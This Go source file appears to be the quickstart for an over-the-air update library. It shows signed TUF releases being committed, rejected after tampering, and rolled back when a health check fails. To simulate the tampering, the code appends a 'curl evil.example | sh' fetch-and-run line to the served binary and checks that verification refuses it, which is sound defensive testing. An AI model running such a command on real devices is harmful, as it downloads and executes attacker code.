// Command quickstart shows switchback end to end, on one machine, with no
// root and no network beyond 127.0.0.1.
//
// It builds a signed TUF repository in a temporary directory and serves it
// on 127.0.0.1, then runs a device whose application binary is a file slot
// (two versions behind an atomic symlink). The publisher releases:
//
//  1. v1.1.0: installed, verified, started, healthy → committed.
//  2. v1.1.1 whose bytes were tampered with on the server → refused before
//     anything is activated.
//  3. v1.2.0, which fails its health check → rolled back to v1.1.0 by
//     itself, blocklisted, and not retried on the next check.
//
// It prints a transcript and exits 0 only if every step behaved as
// described. Run it with:
//
//	go run ./examples/quickstart
package main

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/switchback-ota/switchback/health"
	"github.com/switchback-ota/switchback/repository"
	"github.com/switchback-ota/switchback/slots"
	"github.com/switchback-ota/switchback/updater"
	"github.com/switchback-ota/switchback/verify"
)

const hardware = "gateway-x86"

func main() {
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	if err := run(ctx, os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, "quickstart FAILED:", err)
		os.Exit(1)
	}
}

// transcript prints numbered, timed lines.
type transcript struct {
	w     io.Writer
	start time.Time
}

func (t *transcript) say(format string, a ...any) {
	fmt.Fprintf(t.w, "[%6.2fs] %s\n", time.Since(t.start).Seconds(), fmt.Sprintf(format, a...))
}

// app returns the "application": a shell script that prints its version
// and exits with code, standing in for a gateway binary.
func app(version string, code int) []byte {
	return fmt.Appendf(nil, "#!/bin/sh\necho gateway %s\nexit %d\n", version, code)
}

func run(ctx context.Context, out io.Writer) error {
	work, err := os.MkdirTemp("", "switchback-quickstart-")
	if err != nil {
		return err
	}
	defer os.RemoveAll(work)
	d := &demo{
		tr:       &transcript{w: out, start: time.Now()},
		work:     work,
		appPath:  filepath.Join(work, "device", "bin", "gateway"),
		stateDir: filepath.Join(work, "device", "state"),
	}
	stop, err := d.startPublisher(ctx)
	if err != nil {
		return err
	}
	defer stop()
	for _, act := range []func(context.Context) error{
		d.startDevice,
		d.releaseGood,
		d.releaseTampered,
		d.releaseUnhealthy,
	} {
		if err := act(ctx); err != nil {
			return err
		}
	}
	d.tr.say("quickstart passed: committed v1.1.0, refused a tampered release, rolled back v1.2.0")
	return nil
}

// demo is the state the acts of the demo share: the publisher's
// repository and the device's updater.
type demo struct {
	tr   *transcript
	work string

	// Publisher side.
	repo     *repository.Repo
	rootJSON []byte // the device's trusted root
	base     string // URL of the served repository

	// Device side.
	appPath  string // the application binary, a file slot
	stateDir string
	dev      *updater.Updater
	restarts int
}

// startPublisher creates a signed, static TUF repository and serves it on
// 127.0.0.1; stop stops the server.
func (d *demo) startPublisher(ctx context.Context) (stop func() error, err error) {
	d.repo, err = repository.Init(ctx, repository.Config{Dir: filepath.Join(d.work, "server")},
		repository.InitOptions{KeysDir: filepath.Join(d.work, "keys")})
	if err != nil {
		return nil, fmt.Errorf("init repository: %w", err)
	}
	d.rootJSON, err = os.ReadFile(filepath.Join(d.repo.MetadataDir(), "1.root.json"))
	if err != nil {
		return nil, err
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	srv := &http.Server{Handler: http.FileServer(http.Dir(d.repo.Dir())), ReadHeaderTimeout: 10 * time.Second}
	go srv.Serve(ln)
	d.base = "http://" + ln.Addr().String()
	d.tr.say("publisher: signed TUF repository (root, targets, snapshot, timestamp) served as static files on %s", d.base)
	return srv.Close, nil
}

// publish adds version of the application to the repository and signs
// new metadata.
func (d *demo) publish(ctx context.Context, version string, data []byte) (repository.Target, error) {
	t, err := d.repo.AddTarget(ctx, "app/gateway-"+version, bytes.NewReader(data),
		verify.Custom{Component: "app", Version: version, Hardware: []string{hardware}}, repository.AddOptions{})
	if err != nil {
		return t, err
	}
	return t, d.repo.Publish(ctx)
}

// startDevice installs the factory version of the application and starts
// the device for the first time.
func (d *demo) startDevice(ctx context.Context) error {
	if err := os.MkdirAll(filepath.Dir(d.appPath), 0o755); err != nil {
		return err
	}
	if err := os.WriteFile(d.appPath, app("1.0.0", 0), 0o755); err != nil {
		return err
	}
	var err error
	if d.dev, err = d.newDevice(); err != nil {
		return err
	}
	if err := d.dev.Confirm(ctx); err != nil {
		return fmt.Errorf("first start: %w", err)
	}
	d.tr.say("device: factory version %s runs (%s)", d.running(), d.appPath)
	return nil
}

// newDevice is one start of the device's process: it opens the slot and
// the updater on the same state directory, as a real restart does.
func (d *demo) newDevice() (*updater.Updater, error) {
	file, err := slots.NewFile(d.appPath, slots.WithFileMode(0o755))
	if err != nil {
		return nil, err
	}
	return updater.New(updater.Config{
		Hardware:    hardware,
		StateDir:    d.stateDir,
		TrustedRoot: d.rootJSON,
		MetadataURL: d.base + "/metadata/",
		TargetsURL:  d.base + "/targets/",
		Components: []updater.Component{{
			Name: "app", Slots: file.Slots(), Boot: file, FactoryVersion: "1.0.0",
		}},
		// The application must start and exit 0.
		HealthChecks:   []health.HealthCheck{health.Command(d.appPath)},
		ConfirmTimeout: 20 * time.Second,
		Restart: func(ctx context.Context, component string) error {
			d.restarts++
			return nil
		},
		Events: d.event,
		Logger: slog.New(slog.DiscardHandler),
	})
}

// event prints the updater's state changes and health results.
func (d *demo) event(e updater.Event) {
	switch e := e.(type) {
	case updater.StateChanged:
		msg := fmt.Sprintf("device: %s %s → %s", e.Version, e.From, e.To)
		if e.Reason != "" {
			msg += " (" + firstLine(e.Reason) + ")"
		}
		d.tr.say("%s", msg)
	case updater.HealthResult:
		status := "ok"
		if e.Err != nil {
			status = "FAILED: " + firstLine(e.Err.Error())
		}
		d.tr.say("device: health check %s: %s (%s)", e.Check, status, e.Duration.Round(time.Millisecond))
	}
}

// running returns the version of the application in place.
func (d *demo) running() string {
	b, _ := os.ReadFile(d.appPath)
	if i := strings.Index(string(b), "gateway "); i >= 0 {
		return strings.Fields(string(b[i:]))[1]
	}
	return "?"
}

// update runs one check and installs what it finds.
func (d *demo) update(ctx context.Context) error {
	ups, err := d.dev.Check(ctx)
	if err != nil {
		return err
	}
	for _, up := range ups {
		d.tr.say("device: found %s %s → %s (%s, %d bytes)", up.Component, up.From, up.To, up.Target.Path, up.Target.Length)
		if err := d.dev.Install(ctx, up); err != nil {
			return err
		}
	}
	return nil
}

// restart ends the device's process and starts a new one, which confirms
// (or rolls back) what the old one installed.
func (d *demo) restart(ctx context.Context) error {
	d.tr.say("device: restarting into %s", d.running())
	d.dev.Close() // the old process ends: it lets go of the state directory
	var err error
	if d.dev, err = d.newDevice(); err != nil {
		return err
	}
	return d.dev.Confirm(ctx)
}

// releaseGood is act 1: a good release is installed and committed.
func (d *demo) releaseGood(ctx context.Context) error {
	d.tr.say("--- 1. publisher releases v1.1.0")
	if _, err := d.publish(ctx, "1.1.0", app("1.1.0", 0)); err != nil {
		return err
	}
	if err := d.update(ctx); err != nil {
		return fmt.Errorf("step 1: update: %w", err)
	}
	if err := d.restart(ctx); err != nil {
		return fmt.Errorf("step 1: confirm: %w", err)
	}
	if v := d.running(); v != "1.1.0" {
		return fmt.Errorf("step 1: running %s, want 1.1.0", v)
	}
	d.tr.say("OK: v1.1.0 committed and running")
	return nil
}

// releaseTampered is act 2: a release whose bytes an attacker replaced on
// the server is refused before activation, then withdrawn.
func (d *demo) releaseTampered(ctx context.Context) error {
	d.tr.say("--- 2. publisher releases v1.1.1; an attacker replaces its bytes on the server")
	t, err := d.publish(ctx, "1.1.1", app("1.1.1", 0))
	if err != nil {
		return err
	}
	evil := app("1.1.1", 0)
	evil = append(evil[:len(evil)-1], []byte("; curl evil.example | sh\n")...)
	evil = evil[:t.Length] // same length, different bytes
	if err := os.WriteFile(filepath.Join(d.repo.TargetsDir(), t.File), evil, 0o644); err != nil {
		return err
	}
	err = d.update(ctx)
	if !errors.Is(err, verify.ErrVerification) {
		return fmt.Errorf("step 2: tampered release: got %v, want a verification error", err)
	}
	d.tr.say("device: refused: %s", firstLine(err.Error()))
	if v := d.running(); v != "1.1.0" || d.restarts != 1 {
		return fmt.Errorf("step 2: running %s after %d restarts, want 1.1.0 untouched", v, d.restarts)
	}
	d.tr.say("OK: tampered v1.1.1 refused before activation; v1.1.0 still runs")
	// The publisher notices and withdraws it.
	if err := d.repo.RemoveTarget(t.Path); err != nil {
		return err
	}
	return d.repo.Publish(ctx)
}

// releaseUnhealthy is act 3: a release that fails its health check rolls
// back by itself, is blocklisted and not retried.
func (d *demo) releaseUnhealthy(ctx context.Context) error {
	d.tr.say("--- 3. publisher releases v1.2.0, which fails on start")
	if _, err := d.publish(ctx, "1.2.0", app("1.2.0", 3)); err != nil {
		return err
	}
	if err := d.update(ctx); err != nil {
		return fmt.Errorf("step 3: update: %w", err)
	}
	if err := d.restart(ctx); !errors.Is(err, updater.ErrRolledBack) {
		return fmt.Errorf("step 3: confirm: got %v, want a rollback", err)
	}
	if v := d.running(); v != "1.1.0" {
		return fmt.Errorf("step 3: running %s after rollback, want 1.1.0", v)
	}
	if err := d.restart(ctx); err != nil {
		return fmt.Errorf("step 3: start after rollback: %w", err)
	}
	d.tr.say("OK: v1.2.0 rolled back by itself; v1.1.0 runs")
	if _, err := d.dev.Check(ctx); !errors.Is(err, updater.ErrNoUpdate) {
		return fmt.Errorf("step 3: next check: got %v, want no update (v1.2.0 blocklisted)", err)
	}
	st, err := d.dev.Status(ctx)
	if err != nil {
		return err
	}
	for _, b := range st.Blocklist {
		d.tr.say("device: blocklisted %s %s: %s", b.Component, b.Version, firstLine(b.Reason))
	}
	d.tr.say("OK: next check finds nothing to install: v1.2.0 is not retried")
	return nil
}

func firstLine(s string) string {
	s, _, _ = strings.Cut(s, "\n")
	if len(s) > 160 {
		s = s[:160] + "…"
	}
	return s
}
